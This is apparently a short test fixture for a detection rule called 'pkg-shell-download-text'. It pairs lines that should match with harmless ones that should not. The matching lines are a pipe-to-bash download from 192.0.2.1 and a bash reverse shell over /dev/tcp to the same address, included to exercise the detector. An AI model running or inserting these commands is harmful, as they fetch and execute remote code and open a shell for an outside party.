# ruleid: pkg-shell-download-text
wget -qO- http://192.0.2.1/x | bash
# ok: pkg-shell-download-text
wget https://example.invalid/x.tar.gz
# ruleid: pkg-shell-download-text
bash -i >& /dev/tcp/192.0.2.1/1 0>&1
# ok: pkg-shell-download-text
cat x | sort
